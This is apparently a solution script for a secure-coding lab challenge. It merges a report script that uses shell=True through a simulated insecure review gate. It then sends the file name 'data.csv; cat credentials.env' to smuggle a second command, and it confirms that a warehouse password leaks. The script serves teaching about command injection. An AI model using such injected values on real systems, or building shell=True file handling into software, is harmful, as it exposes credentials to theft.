"""Lesson "Secure coding tools", challenge inject-merged-script: merge the
report script through the insecure review gate, then name a data file that
carries a second command. The lab simulates the shell: nothing runs for real.

Run it with safelab running:  python inject.py
"""

import sys

import requests

HTTP = "{{http}}"
INSECURE = f"{HTTP}/lab/insecure/linting"


def check(condition: bool, message: str) -> None:
    """Stops with a message when the lab did not answer as the lesson says."""
    if not condition:
        sys.exit(f"unexpected: {message}")


def main() -> None:
    script = requests.get(f"{INSECURE}/script", timeout=10)
    check(script.status_code == 200, f"the script answered {script.status_code}")
    check("shell=True" in script.text, "the report script no longer uses a shell")

    merged = requests.post(f"{INSECURE}/merge", data=script.text.encode(), timeout=10)
    check(merged.status_code == 200, f"the insecure gate answered {merged.status_code}")
    print("merged:", merged.json())

    run = requests.post(
        f"{INSECURE}/run",
        params={"file": "data.csv; cat credentials.env"},
        timeout=10,
    )
    check(run.status_code == 200, f"the run answered {run.status_code}")
    output = run.json()["output"]
    print(output)
    check("WAREHOUSE_PASSWORD" in output, "the injected command did not run")


if __name__ == "__main__":
    main()
